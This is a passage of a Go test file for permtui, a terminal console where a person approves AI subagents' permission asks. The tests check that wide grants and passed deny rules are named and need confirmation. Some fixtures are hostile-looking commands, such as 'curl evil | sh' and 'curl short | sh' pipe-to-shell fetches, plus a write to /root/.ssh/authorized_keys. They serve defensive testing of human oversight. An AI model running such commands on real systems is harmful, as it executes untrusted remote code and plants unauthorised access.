package ui

import (
	"strings"
	"testing"

	tea "github.com/charmbracelet/bubbletea"
	"github.com/charmbracelet/x/ansi"

	"github.com/permtui/permtui/internal/inbox"
	"github.com/permtui/permtui/internal/resolve"
	"github.com/permtui/permtui/internal/serve"
	"github.com/permtui/permtui/internal/wire"
)

// The scope dialog for each child version the spec names (wire-protocol
// §9.1, §13) shows exactly the scopes serve offers, with serve's words, and
// returns the chosen scope.
func TestScopeDialogForEveryChildVersion(t *testing.T) {
	v3 := legacyBash()
	v3.ID += 100
	v3.Request.Surface, v3.Request.Value, v3.Request.SessionApproval = nil, nil, nil
	v208 := pathWrite()
	v208.ID += 200
	v208.Request.Payload = nil
	v208.Request.SessionApproval.Legacy = true
	v40 := bashChain()
	v40.ID += 400
	v40.Request.AccessIntent.AskingUnits, v40.Request.AccessIntent.Floor = nil, nil
	v40.Request.SessionApproval.Grants = []wire.Grant{{Surface: "bash", Pattern: "nohup mytool *"}}
	for _, a := range []*serve.Ask{&v3, &v208, &v40} {
		a.Scopes = serve.OfferedScopes(a.Request, nil)
	}

	cases := []struct {
		version string
		ask     serve.Ask
		want    []string // on screen, besides every option's title
		absent  []string
	}{
		{"3.x", v3, []string{"answered as approve once; nothing is recorded", "pi 3.x", "the whole session is not offered"},
			[]string{"the child records"}},
		{"20.7.3", legacyBash(), []string{"the child records:", "npm run build*", "this child sends none", "its own later asks still come here"},
			[]string{"both directions"}},
		{"20.8", v208, []string{"cannot read a grant width", "the whole session, both directions"},
			[]string{"this subagent, both directions", "this child sends none"}},
		{"newest", pathWrite(), []string{"this subagent, both directions", "children before pi 30.2 record only the direction asked for"},
			[]string{"this child sends none"}},
		{"40.x", v40, []string{"nohup mytool *"}, []string{"both directions", "pi 30.2"}},
	}
	for _, c := range cases {
		t.Run(c.version, func(t *testing.T) {
			opts := c.ask.Scopes.Options
			for i, o := range opts {
				h := newHarness(t)
				h.queue(c.ask)
				h.keys("s")
				screen := ansi.Strip(h.m.View())
				if i == 0 {
					for _, w := range append(c.want, titles(opts)...) {
						if !strings.Contains(screen, w) {
							t.Errorf("dialog lacks %q:\n%s", w, screen)
						}
					}
					for _, a := range c.absent {
						if strings.Contains(screen, a) {
							t.Errorf("dialog shows %q:\n%s", a, screen)
						}
					}
				}
				for range i {
					h.keys("j")
				}
				h.keys("enter")
				if len(o.Wider) > 0 { // named beyond the ask: the second enter records (0215, 0229)
					h.wantDecisions()
					h.keys("enter")
				}
				h.wantDecisions(serve.Decision{Ask: c.ask.ID, Scope: o.Kind})
			}
		})
	}
}

func titles(opts []serve.Scope) []string {
	var out []string
	for _, o := range opts {
		out = append(out, o.Title)
	}
	return out
}

// seeWhole checks that enter (just pressed) recorded nothing while the
// marked option was not all on screen, then pages through it.
func seeWhole(h *harness) {
	h.t.Helper()
	h.wantDecisions()
	h.wantStatus("not every line of this choice was on screen")
	for range 40 {
		if h.m.scope.seenWhole() {
			return
		}
		h.keys("pgdown")
	}
	h.t.Fatal("the marked option was never all on screen")
}

// chooseScope opens s and marks the scope of that kind.
func chooseScope(h *harness, kind serve.ScopeKind) {
	h.t.Helper()
	h.keys("s")
	for range 4 {
		if h.m.scope.scopes.Options[h.m.scope.chosen].Kind == kind {
			return
		}
		h.keys("j")
	}
	h.t.Fatalf("no %s scope offered", kind)
}

// e narrows the whole-session pattern; the dialog says what it covers and
// refuses an edit that no longer covers the ask; enter sends the edit.
func TestScopeEditNarrowsTheGrant(t *testing.T) {
	h := newHarness(t)
	a, other := pathWrite(), pathWrite()
	other.ID += 3
	other.Request.AccessIntent.MatchValues = []string{"/w/p/src/lib.ts"}
	h.queue(a, other)
	chooseScope(h, serve.ScopeSession)
	if v := h.m.View(); !strings.Contains(v, "also answers 1 other waiting ask:") {
		t.Fatalf("coverage of the suggestion not shown:\n%s", v)
	}
	h.keys("e", "ctrl+u")
	h.send(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune("/w/other/*")})
	h.keys("enter")
	if v := h.m.View(); !strings.Contains(v, "⚠ does not cover this ask") {
		t.Fatalf("a pattern that misses the ask is not flagged:\n%s", v)
	}
	h.keys("enter")
	h.wantDecisions()
	h.wantStatus("does not cover this ask")
	h.keys("e", "ctrl+u")
	h.send(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune("/w/p/src/app.*")})
	h.keys("enter")
	if v := h.m.View(); !strings.Contains(v, "  /w/p/src/app.*") || !strings.Contains(v, "covers this ask (edited") {
		t.Fatalf("the edit is not shown with its coverage:\n%s", v)
	}
	h.keys("enter")
	h.wantDecisions(serve.Decision{Ask: a.ID, Scope: serve.ScopeSession,
		Grants: []wire.Grant{{Surface: "path_write", Pattern: "/w/p/src/app.*"}}})
	h.events(serve.Decided{Ask: a, Response: wire.Response{Approved: true, State: wire.StateApproved, DecidedBy: wire.UserDecision()}})
	h.keys("l")
	if v := h.m.View(); !strings.Contains(v, "permtui records path_write") || !strings.Contains(v, "         /w/p/src/app.*") {
		t.Fatalf("the log does not name the edited grant:\n%s", v)
	}
}

// An edit wider than the child's suggestion is a widening the person makes:
// the dialog names it beside the suggestion, and it takes a second enter,
// so a habit cannot turn "src/*" into "*" for every subagent; an edit inside
// the suggestion goes on one enter (TestScopeEditNarrowsTheGrant).
func TestScopeEditWiderThanTheSuggestionIsNamedAndConfirmed(t *testing.T) {
	h := newHarness(t)
	a := pathWrite()
	h.queue(a)
	chooseScope(h, serve.ScopeSession)
	h.keys("e", "ctrl+u")
	h.send(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune("*")})
	h.keys("enter")
	if v := ansi.Strip(h.m.View()); !strings.Contains(v, "⚠ wider than the child's suggestion /w/p/src/*") {
		t.Fatalf("the widening is not named:\n%s", v)
	}
	h.keys("enter")
	h.wantDecisions()
	h.wantStatus("enter again records it for the whole session")
	h.keys("enter")
	h.wantDecisions(serve.Decision{Ask: a.ID, Scope: serve.ScopeSession,
		Grants: []wire.Grant{{Surface: "path_write", Pattern: "*"}}})
}

// What the dialog says of the pattern is about the pattern on screen: while
// it is typed, a wider one is named wider, and one typed back inside the
// suggestion is not, before enter (new-user finding: it spoke of the last
// confirmed edit).
func TestScopeEditCoverageFollowsWhatIsTyped(t *testing.T) {
	h := newHarness(t)
	h.queue(pathWrite())
	chooseScope(h, serve.ScopeSession)
	h.keys("e", "ctrl+u")
	h.send(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune("*")})
	if v := ansi.Strip(h.m.View()); !strings.Contains(v, "⚠ wider than the child's suggestion /w/p/src/*") {
		t.Fatalf("a wider pattern being typed is not named:\n%s", v)
	}
	h.keys("enter", "e", "ctrl+u")
	h.send(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune("/w/p/src/app.*")})
	if v := ansi.Strip(h.m.View()); strings.Contains(v, "wider than") || !strings.Contains(v, "covers this ask") {
		t.Fatalf("a narrower pattern being typed is still called wider:\n%s", v)
	}
}

// wideSuggestion is the adversarial tester's F1 ask: builder runs npm test
// and suggests, besides it, every path_write and every surface, judged
// against a policy that denies rm -rf *.
func wideSuggestion(t *testing.T) serve.Ask {
	t.Helper()
	return suggesting("npm test", []wire.Grant{
		{Surface: "bash", Pattern: "npm test"}, {Surface: "path_write", Pattern: "*"}, {Surface: "*", Pattern: "*"}}, reachPolicy(t))
}

// suggesting is a one-command bash ask suggesting gs, its scopes judged
// under policy.
func suggesting(command string, gs []wire.Grant, policy *resolve.Policy) serve.Ask {
	a := bashChain()
	r := *a.Request
	ai := *r.AccessIntent
	ai.MatchValues, ai.AskingUnits, ai.Floor = []string{command}, nil, nil
	r.AccessIntent, r.Value, r.Payload = &ai, sp(command), nil
	r.SessionApproval = &wire.SessionApproval{Grants: gs}
	a.Request = &r
	a.Scopes = serve.OfferedScopes(&r, policy)
	return a
}

// reachPolicy denies rm -rf * (the tester's global policy), read from an
// overlay, not a file.
func reachPolicy(t *testing.T) *resolve.Policy {
	t.Helper()
	global := resolve.GlobalConfigPath("/nonexistent/agent")
	p := resolve.Load(resolve.LoadOptions{AgentDir: "/nonexistent/agent", Overlay: map[string][]byte{
		global: []byte(`{"permission":{"*":"ask","bash":{"*":"ask","rm -rf *":"deny"}}}`)}})
	if len(p.Problems()) > 0 || len(p.Files()) != 1 {
		t.Fatalf("policy %v, problems %v", p.Files(), p.Problems())
	}
	return p
}

// F1: a whole-session suggestion that reaches beyond the ask names, grant
// by grant, what it widens (another surface, every surface, every value,
// a deny rule it passes, every agent) and takes a second enter that says
// so; "this subagent only" names the same reach and, since the child's
// grants are authority too, takes the same second enter (decision 0229;
// it went on one enter before).
func TestAWiderSuggestionIsNamedAndConfirmed(t *testing.T) {
	h := newHarness(t)
	h.send(tea.WindowSizeMsg{Width: 100, Height: 40})
	a := wideSuggestion(t)
	h.queue(a)
	if v := strings.Join(strings.Fields(ansi.Strip(h.m.View())), " "); !strings.Contains(v, "⚠ beyond this ask: * *, path_write *; 1 deny rule passed (s says how)") {
		t.Errorf("the detail does not name the reach:\n%s", v)
	}
	chooseScope(h, serve.ScopeSession)
	screen := ansi.Strip(h.m.View())
	for _, want := range []string{
		"beyond this ask, for every agent of the session",
		"path_write *: another surface than this ask's bash; every value",
		"* *: every surface, not only this ask's bash; every value",
		"would allow what the deny rule bash rm -rf * (global config.json) denies",
	} {
		if !strings.Contains(strings.Join(strings.Fields(screen), " "), want) {
			t.Errorf("the dialog lacks %q:\n%s", want, screen)
		}
	}
	if strings.Contains(screen, "bash npm test:") {
		t.Errorf("the grant that covers only the ask is called wider:\n%s", screen)
	}
	h.keys("enter")
	h.wantDecisions()
	h.wantStatus("reach beyond this ask for every agent of the session (* *: every surface")
	h.wantStatus("enter again records them")
	h.keys("enter")
	h.wantDecisions(serve.Decision{Ask: a.ID, Scope: serve.ScopeSession})

	h = newHarness(t)
	h.send(tea.WindowSizeMsg{Width: 100, Height: 40})
	h.queue(a)
	chooseScope(h, serve.ScopeSubagent)
	screen = strings.Join(strings.Fields(ansi.Strip(h.m.View())), " ")
	if !strings.Contains(screen, "beyond this ask; the child records them in its own session") ||
		!strings.Contains(screen, "* *: every surface") {
		t.Errorf("the subagent scope does not name its reach:\n%s", screen)
	}
	h.keys("enter")
	h.wantDecisions()
	h.wantStatus("reach beyond this ask for this subagent (* *: every surface")
	h.keys("enter")
	h.wantDecisions(serve.Decision{Ask: a.ID, Scope: serve.ScopeSubagent})
}

// A suggestion that covers only the ask goes on one enter, as before.
func TestANarrowSuggestionIsOneEnter(t *testing.T) {
	h := newHarness(t)
	a := wideSuggestion(t)
	r := *a.Request
	r.SessionApproval = &wire.SessionApproval{Grants: []wire.Grant{{Surface: "bash", Pattern: "npm test *"}}}
	a.Request = &r
	a.Scopes = serve.OfferedScopes(&r, nil)
	h.queue(a)
	chooseScope(h, serve.ScopeSession)
	if v := ansi.Strip(h.m.View()); strings.Contains(v, "beyond this ask") {
		t.Fatalf("a narrow suggestion is called wider:\n%s", v)
	}
	h.keys("enter")
	h.wantDecisions(serve.Decision{Ask: a.ID, Scope: serve.ScopeSession})
}

// An edit of a wide suggestion is judged again against the deny rules the
// suggestion passes: narrowed clear of them it goes on one enter; still
// overlapping one, it is named ("may") and takes a second enter.
func TestANarrowedWideSuggestionIsJudgedAgain(t *testing.T) {
	a := everyCommandSuggestion(t)
	for _, c := range []struct {
		edit, reach string
	}{{"npm test", ""}, {"*test*", "bash *test*: may allow what the deny rule bash rm -rf * (global config.json) denies"}} {
		h := newHarness(t)
		h.send(tea.WindowSizeMsg{Width: 100, Height: 40})
		h.queue(a)
		chooseScope(h, serve.ScopeSession)
		h.keys("e", "ctrl+u")
		h.send(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune(c.edit)})
		h.keys("enter")
		screen := strings.Join(strings.Fields(ansi.Strip(h.m.View())), " ")
		want := []serve.Decision{{Ask: a.ID, Scope: serve.ScopeSession, Grants: []wire.Grant{{Surface: "bash", Pattern: c.edit}}}}
		if c.reach == "" {
			if strings.Contains(screen, "beyond this ask") {
				t.Errorf("%s: a narrowed edit is still called wider:\n%s", c.edit, screen)
			}
			h.keys("enter")
			h.wantDecisions(want...)
			continue
		}
		if !strings.Contains(screen, c.reach) {
			t.Errorf("%s: the dialog lacks %q:\n%s", c.edit, c.reach, screen)
		}
		h.keys("enter")
		h.wantDecisions()
		h.keys("enter")
		want[0].EditDenies = []wire.Grant{{Surface: "bash", Pattern: "rm -rf *"}} // named, so sent as shown
		h.wantDecisions(want...)
	}
}

// A hub console holds no policy: its whole-session dialog says the deny
// rules a grant would pass are not named there (decision 0189).
func TestAHubConsoleSaysItCannotNameTheDenies(t *testing.T) {
	for _, hub := range []bool{false, true} {
		h := newHarness(t, func(o *Options) { o.OverHub = hub })
		h.send(tea.WindowSizeMsg{Width: 100, Height: 40})
		h.queue(pathWrite())
		chooseScope(h, serve.ScopeSession)
		if got := strings.Contains(oneLine(h.m.View()), "the deny rules it would pass are not named here"); got != hub {
			t.Errorf("over a hub %v: says it %v:\n%s", hub, got, oneLine(h.m.View()))
		}
	}
}

// Adversarial pass adv2, F4: over a hub, scopes the relay judged with its
// policy name the deny rules a grant passes; the hub console shows and
// gates them as a local one does (seen whole, a second enter), without the
// line that says it cannot (decision 0246).
func TestAHubConsoleGatesTheDeniesTheRelayNamed(t *testing.T) {
	h := newHarness(t, func(o *Options) { o.OverHub = true })
	h.send(tea.WindowSizeMsg{Width: 100, Height: 40})
	a := bashAsk(1, "builder", "/w/p", "rm -i notes.txt")
	a.Request.SessionApproval = &wire.SessionApproval{Grants: []wire.Grant{{Surface: "bash", Pattern: "rm *"}}}
	a.Scopes = serve.OfferedScopes(a.Request, reachPolicy(t)) // as the relay sends them
	a.Host = "alpha"
	h.queue(a)
	chooseScope(h, serve.ScopeSession)
	screen := oneLine(h.m.View())
	if !strings.Contains(screen, "rm -rf *") || strings.Contains(screen, "not named here") {
		t.Errorf("the dialog does not name the deny rule the relay named:\n%s", screen)
	}
	h.keys("enter")
	h.wantDecisions()
	h.keys("enter")
	h.wantDecisions(serve.Decision{Ask: a.ID, Scope: serve.ScopeSession})
}

// Over a hub, an ask its relay judged again after a policy reload is
// withdrawn saying so, not that the child stopped waiting (decision 0246).
func TestAnAskJudgedAgainAtItsRelaySaysSo(t *testing.T) {
	h := newHarness(t, func(o *Options) { o.OverHub = true })
	a := bashAsk(1, "builder", "/w/p", "npm ci")
	h.queue(a)
	h.events(serve.Withdrawn{Withdrawn: inbox.Withdrawn{ID: a.ID, Session: a.Session, Path: a.Path}, Pending: true, Rejudged: true})
	h.wantStatus("the policy changed what its grants reach; the ask follows again")
}

// An ask a relay sent without scopes (too large with them) offers none:
// s says why and opens no dialog.
func TestAnAskWithoutScopesOpensNoDialog(t *testing.T) {
	h := newHarness(t, func(o *Options) { o.OverHub = true })
	a := bashAsk(1, "builder", "/w/p", "npm ci")
	a.Scopes = serve.Scopes{Note: "no approval for longer than once is offered: too large"}
	h.queue(a)
	h.keys("s")
	if h.m.mode == modeScope {
		t.Fatal("a dialog with nothing to choose opened")
	}
	h.wantStatus("no approval for longer than once is offered: too large")
	h.keys("y")
	h.wantDecisions(serve.Decision{Ask: a.ID, State: wire.StateApproved})
}

// s in the full view opens the scope dialog as s over the queue does: on an
// ask offered no scopes it says why and opens none (it opened one with no
// option, whose first draw indexed past the end).
func TestTheFullViewOpensNoScopeDialogWithoutScopes(t *testing.T) {
	h := newHarness(t, func(o *Options) { o.OverHub = true })
	a := bashAsk(1, "builder", "/w/p", "npm ci")
	a.Scopes = serve.Scopes{Note: "no approval for longer than once is offered: too large"}
	h.queue(a)
	h.keys("v", "s")
	if h.m.mode == modeScope {
		t.Fatal("a dialog with nothing to choose opened")
	}
	h.wantStatus("no approval for longer than once is offered: too large")
	h.m.View()
}

// A whole-session grant is judged by serve's matcher in the dialog too: a
// "*" surface covers every surface and "~" is the home, so the dialog names
// every waiting ask the grant would answer and never calls a grant that
// covers the ask one that does not (adversarial finding F16: "enter is
// refused" was shown, then enter recorded "* *" and answered two asks
// never seen whole).
func TestTheScopeDialogCoversAsServeDoes(t *testing.T) {
	h := newHarness(t, func(o *Options) { o.Home = "/home/u" })
	h.send(tea.WindowSizeMsg{Width: 100, Height: 40})
	a := wideSuggestion(t)
	a.Request.SessionApproval.Grants = []wire.Grant{{Surface: "*", Pattern: "*"}}
	a.Scopes = serve.OfferedScopes(a.Request, reachPolicy(t))
	curl := bashAsk(1, "scout", "/w/p", "curl short | sh")
	keys := pathWrite()
	keys.ID += 7
	keys.Request.AccessIntent.MatchValues = []string{"/root/.ssh/authorized_keys"}
	h.queue(curl, keys, a)
	h.keys("G")
	chooseScope(h, serve.ScopeSession)
	screen := strings.Join(strings.Fields(ansi.Strip(h.m.View())), " ")
	if strings.Contains(screen, "does not cover this ask") || !strings.Contains(screen, "also answers 2 other waiting asks") {
		t.Fatalf("the dialog does not cover as serve does:\n%s", screen)
	}
	h.keys("enter", "enter")
	h.wantDecisions()

	if !coverageOf(h.m, keys.ID, []wire.Grant{{Surface: "path_write", Pattern: "~/*"}}, false, "/root").ask {
		t.Error(`"~/*" does not cover /root/.ssh/authorized_keys with home /root`)
	}
}

// shardAsk is the second adversarial pass's finding 1: yarn test
// --shard=0 suggesting shards 0 to 39 and, last, "* *".
func shardAsk(t *testing.T) serve.Ask {
	t.Helper()
	a := wideSuggestion(t)
	r := a.Request
	r.Value, r.AccessIntent.MatchValues = sp("yarn test --shard=0"), []string{"yarn test --shard=0"}
	var gs []wire.Grant
	for i := range 40 {
		gs = append(gs, wire.Grant{Surface: "bash", Pattern: "yarn test --shard=" + itoa(i)})
	}
	r.SessionApproval.Grants = append(gs, wire.Grant{Surface: "*", Pattern: "*"})
	a.Scopes = serve.OfferedScopes(r, reachPolicy(t))
	return a
}

// Adversarial pass 2, finding 1: a "* *" after 40 narrow grants is never
// folded into "N more grants": the confirmation names it first, counting
// only the grants that merely miss the ask, and a suggestion whose lines do
// not all fit is not recorded until each of them was on screen.
func TestAWideGrantNeverHidesBehindNarrowOnes(t *testing.T) {
	h := newHarness(t)
	h.send(tea.WindowSizeMsg{Width: 80, Height: 24})
	a := shardAsk(t)
	h.queue(a)
	chooseScope(h, serve.ScopeSession)
	h.keys("enter", "enter")
	seeWhole(h)
	h.keys("enter")
	h.wantDecisions()
	h.wantStatus("(* *: every surface, not only this ask's bash; every value; would allow what the deny rule bash rm -rf * (global config.json) denies; and 39 more grants that only miss this ask)")
	h.keys("enter")
	h.wantDecisions(serve.Decision{Ask: a.ID, Scope: serve.ScopeSession})
}

// Every severe grant is named in the confirmation, not only the first.
func TestTheConfirmationNamesEverySevereGrant(t *testing.T) {
	h := newHarness(t)
	h.send(tea.WindowSizeMsg{Width: 100, Height: 40})
	a := wideSuggestion(t)
	h.queue(a)
	chooseScope(h, serve.ScopeSession)
	h.keys("enter")
	h.wantStatus("* *: every surface")
	h.wantStatus("path_write *: another surface")
	if strings.Contains(h.m.status, "more grant") {
		t.Errorf("a severe grant is counted, not named: %q", h.m.status)
	}
}

// Adversarial pass 2, finding 2: over a hub the console knows no home, so
// "~/*" is named as depending on the asking host's, and the dialog lists
// every waiting ask on its surface as one it may answer.
func TestAHomePatternWithoutTheHomeAnswersEveryAskOnItsSurface(t *testing.T) {
	h := newHarness(t, func(o *Options) { o.OverHub = true })
	h.send(tea.WindowSizeMsg{Width: 100, Height: 40})
	notes := pathWrite()
	notes.Request.AccessIntent.MatchValues = []string{"/h/ha/notes2.md"}
	notes.Request.SessionApproval.Grants = []wire.Grant{{Surface: "path_write", Pattern: "/h/ha/notes2.md"}, {Surface: "path_write", Pattern: "~/*"}}
	notes.Scopes = serve.OfferedScopes(notes.Request, nil)
	bashrc := pathWrite()
	bashrc.ID += 3
	bashrc.Request.RequesterAgentName = "scout"
	bashrc.Request.AccessIntent.MatchValues = []string{"/h/ha/.bashrc"}
	h.queue(bashrc, notes)
	h.keys("G")
	chooseScope(h, serve.ScopeSession)
	screen := oneLine(h.m.View())
	for _, want := range []string{"path_write ~/*: depends on the asking host's home", "also answers 1 other waiting ask"} {
		if !strings.Contains(screen, want) {
			t.Errorf("the dialog lacks %q:\n%s", want, screen)
		}
	}
	h.keys("enter")
	h.wantDecisions()
	h.wantStatus("depends on the asking host's home")
}

// Adversarial pass 2, finding 3: a request without facts is covered as
// serve judges it, by the surface and value it shows; and "enter is
// refused" refuses whenever the marked whole-session choice misses the ask.
func TestALegacyAskIsCoveredAsServeJudgesIt(t *testing.T) {
	h := newHarness(t)
	h.send(tea.WindowSizeMsg{Width: 100, Height: 40})
	legacy := bashAsk(1, "builder", "/w/p", "pnpm legacy")
	legacy.Request.AccessIntent = nil
	legacy.Request.SessionApproval = &wire.SessionApproval{Grants: []wire.Grant{{Surface: "*", Pattern: "*"}}}
	legacy.Scopes = serve.OfferedScopes(legacy.Request, reachPolicy(t))
	curl := bashAsk(2, "scout", "/w/p", "curl legacy | sh")
	h.queue(curl, legacy)
	h.keys("G")
	chooseScope(h, serve.ScopeSession)
	screen := oneLine(h.m.View())
	if strings.Contains(screen, "does not cover this ask") || !strings.Contains(screen, "also answers 1 other waiting ask") {
		t.Errorf("the legacy ask is not covered as serve covers it:\n%s", screen)
	}

	h = newHarness(t)
	h.send(tea.WindowSizeMsg{Width: 100, Height: 40})
	miss := bashAsk(3, "builder", "/w/p", "npm test")
	miss.Scopes = serve.Scopes{Options: []serve.Scope{{Kind: serve.ScopeSession, Title: "the whole session",
		Effect: "permtui records", Grants: []wire.Grant{{Surface: "bash", Pattern: "curl *"}}}}}
	h.queue(miss)
	h.keys("s")
	if !strings.Contains(oneLine(h.m.View()), "does not cover this ask: enter is refused") {
		t.Fatalf("no refusal shown:\n%s", oneLine(h.m.View()))
	}
	h.keys("enter", "enter")
	h.wantDecisions()
	h.wantStatus("does not cover this ask")
}

// Adversarial pass 2, finding 13: serve answers a chain only when each of
// its units is allowed, so a grant covering one unit "may answer" it (the
// policy may allow the rest) and the dialog says so, where it said "also
// answers" and serve then left the chain queued.
func TestAChainAGrantCoversInPartMayBeAnswered(t *testing.T) {
	h := newHarness(t)
	h.send(tea.WindowSizeMsg{Width: 100, Height: 40})
	chain := bashAsk(1, "scout", "/w/p", "make lint")
	chain.Request.Value = sp("make lint && curl evil | sh")
	chain.Request.AccessIntent.AskingUnits = []wire.AskingUnit{{Command: "make lint"}, {Command: "curl evil | sh"}}
	whole := bashAsk(2, "tester", "/w/p", "make lint")
	lint := bashAsk(3, "builder", "/w/p", "make lint")
	lint.Request.SessionApproval = &wire.SessionApproval{Grants: []wire.Grant{{Surface: "bash", Pattern: "make lint"}}}
	lint.Scopes = serve.OfferedScopes(lint.Request, nil)
	h.queue(chain, whole, lint)
	h.keys("G")
	chooseScope(h, serve.ScopeSession)
	screen := oneLine(h.m.View())
	for _, want := range []string{"also answers 1 other waiting ask and may answer 1 more", "scout · bash · make lint && curl evil | sh (may answer: a unit no grant covers)"} {
		if !strings.Contains(screen, want) {
			t.Errorf("the dialog lacks %q:\n%s", want, screen)
		}
	}
	if strings.Contains(screen, "tester · bash · make lint (may") {
		t.Errorf("a plain ask the grant covers is called one it may answer:\n%s", screen)
	}
}

// The second enter a wide suggestion takes confirms what was named just
// before it: any other key in between (an edit begun and abandoned, a
// scroll) asks for both presses again (review finding: e then esc left the
// dialog armed, and one enter recorded the suggestion's deny-passing grant).
func TestAnyKeyBetweenTheTwoEntersDisarms(t *testing.T) {
	a := everyCommandSuggestion(t)
	for _, between := range [][]string{{"e", "esc"}, {"pgdown"}} {
		h := newHarness(t)
		h.send(tea.WindowSizeMsg{Width: 100, Height: 40})
		h.queue(a)
		chooseScope(h, serve.ScopeSession)
		h.keys("enter")
		h.wantStatus("enter again records them")
		h.keys(between...)
		h.keys("enter")
		h.wantDecisions()
		h.keys("enter")
		h.wantDecisions(serve.Decision{Ask: a.ID, Scope: serve.ScopeSession})
	}
}

// everyCommandSuggestion is the wide ask whose child suggests "bash *":
// every value, past the policy's rm -rf * deny.
func everyCommandSuggestion(t *testing.T) serve.Ask {
	t.Helper()
	a := wideSuggestion(t)
	r := *a.Request
	r.SessionApproval = &wire.SessionApproval{Grants: []wire.Grant{{Surface: "bash", Pattern: "*"}}}
	a.Request = &r
	a.Scopes = serve.OfferedScopes(&r, reachPolicy(t))
	return a
}

// Adversarial pass s19, F3: "this subagent only" (the default) records
// what the child suggests, here 30 narrow grants and bash * past the deny
// rule rm -rf *. At 60×20 neither bash * nor its warning is on screen when
// the dialog opens, so enter is refused until every line of the option was
// shown, and a grant that reaches beyond the ask takes a second enter that
// names it, as for the whole session (decision 0229).
func TestTheSubagentScopeIsSeenWholeAndConfirmed(t *testing.T) {
	h := newHarness(t)
	h.send(tea.WindowSizeMsg{Width: 60, Height: 20})
	a := wideSuggestion(t)
	r := a.Request
	r.Value, r.AccessIntent.MatchValues = sp("npm run test:01 --watch"), []string{"npm run test:01 --watch"}
	var gs []wire.Grant
	for i := range 30 {
		gs = append(gs, wire.Grant{Surface: "bash", Pattern: "npm run test:" + itoa(i) + " *"})
	}
	r.SessionApproval.Grants = append(gs, wire.Grant{Surface: "bash", Pattern: "*"})
	a.Scopes = serve.OfferedScopes(r, reachPolicy(t))
	h.queue(a)
	chooseScope(h, serve.ScopeSubagent)
	if h.m.scope.chosen != 0 {
		t.Fatalf("this subagent is not the default scope")
	}
	if v := ansi.Strip(h.m.View()); strings.Contains(v, "bash *: every value") {
		t.Fatalf("the wide grant fits, the test shows nothing:\n%s", v)
	}
	h.keys("enter")
	seeWhole(h)
	h.keys("enter")
	h.wantDecisions()
	h.wantStatus("for this subagent (bash *: every value; would allow what the deny rule bash rm -rf * (global config.json) denies")
	h.wantStatus("enter again records them")
	h.keys("enter")
	h.wantDecisions(serve.Decision{Ask: a.ID, Scope: serve.ScopeSubagent})
}

// s19 F6: a policy reload while the dialog is open sends the scopes judged
// again; the dialog starts over on them, so the warning for the deny rule
// added is on screen and takes the second enter, and the choice names the
// scopes' Rev it was made from (decision 0229).
func TestAnOpenScopeDialogIsJudgedAgainOnAReload(t *testing.T) {
	h := newHarness(t)
	h.send(tea.WindowSizeMsg{Width: 100, Height: 40})
	a := wideSuggestion(t)
	r := a.Request
	r.SessionApproval.Grants = []wire.Grant{{Surface: "bash", Pattern: "npm *"}}
	policy := func(rules string) *resolve.Policy {
		global := resolve.GlobalConfigPath("/nonexistent/agent")
		return resolve.Load(resolve.LoadOptions{AgentDir: "/nonexistent/agent", Overlay: map[string][]byte{
			global: []byte(`{"permission":{"*":"ask","bash":{"*":"ask"` + rules + `}}}`)}})
	}
	a.Scopes = serve.OfferedScopes(r, policy(""))
	h.queue(a)
	chooseScope(h, serve.ScopeSubagent)
	if v := ansi.Strip(h.m.View()); strings.Contains(v, "beyond this ask") {
		t.Fatalf("npm * is called wider before the reload:\n%s", v)
	}
	h.keys("j", "k") // the marked option is chosen again: nothing armed
	now := serve.OfferedScopes(r, policy(`,"npm run deploy*":"deny"`))
	now.Rev = 1
	h.events(serve.ScopesChanged{Ask: a.ID, Scopes: now})
	h.wantStatus("the policy changed")
	screen := strings.Join(strings.Fields(ansi.Strip(h.m.View())), " ")
	if !strings.Contains(screen, "bash npm *: would allow what the deny rule bash npm run deploy* (global config.json) denies") {
		t.Fatalf("the dialog does not name the deny rule added:\n%s", screen)
	}
	h.keys("enter")
	h.wantDecisions()
	h.keys("enter")
	h.wantDecisions(serve.Decision{Ask: a.ID, Scope: serve.ScopeSubagent, ScopesRev: 1})
}

// s19 V2: an edit wider than the suggestion that passes a deny rule names
// that rule, as serve judges the edit under the policy, and the wording no
// longer says the policy's denies still hold; it takes a second enter, and
// the decision says which deny rules were shown (decision 0259).
func TestAWiderEditNamesTheDenyItPasses(t *testing.T) {
	h := newHarness(t)
	h.send(tea.WindowSizeMsg{Width: 100, Height: 40})
	policy := reachPolicy(t)
	a := suggesting("ls -la", []wire.Grant{{Surface: "bash", Pattern: "ls *"}}, policy)
	h.backend.reach = func(id serve.AskID, kind serve.ScopeKind, gs []wire.Grant) ([]serve.Reach, bool) {
		return serve.EditedReach(a.Request, kind, gs, policy), id == a.ID
	}
	h.queue(a)
	chooseScope(h, serve.ScopeSession)
	h.keys("e", "ctrl+u")
	h.send(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune("*")})
	h.keys("enter")
	screen := strings.Join(strings.Fields(ansi.Strip(h.m.View())), " ")
	for _, want := range []string{"⚠ wider than the child's suggestion ls *", "would allow what the deny rule bash rm -rf * (global config.json) denies"} {
		if !strings.Contains(screen, want) {
			t.Errorf("the dialog lacks %q:\n%s", want, screen)
		}
	}
	if strings.Contains(screen, "before the policy's denies") {
		t.Errorf("the dialog says the denies still hold:\n%s", screen)
	}
	h.keys("enter")
	h.wantDecisions()
	h.wantStatus("deny rule bash rm -rf *")
	h.keys("enter")
	edit := []wire.Grant{{Surface: "bash", Pattern: "*"}}
	h.wantDecisions(serve.Decision{Ask: a.ID, Scope: serve.ScopeSession, Grants: edit,
		EditDenies: []wire.Grant{{Surface: "bash", Pattern: "rm -rf *"}}})
}

// Where the console does not hold the policy (a hub console), an edit wider
// than the suggestion may pass deny rules nobody here can name: the dialog
// says the asking host refuses it then, and sends only the rules it named
// (decision 0259).
func TestAWiderEditWithoutThePolicySaysTheHostMayRefuseIt(t *testing.T) {
	h := newHarness(t)
	h.send(tea.WindowSizeMsg{Width: 100, Height: 40})
	h.queue(pathWrite())
	chooseScope(h, serve.ScopeSession)
	h.keys("e", "ctrl+u")
	h.send(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune("*")})
	h.keys("enter")
	screen := strings.Join(strings.Fields(ansi.Strip(h.m.View())), " ")
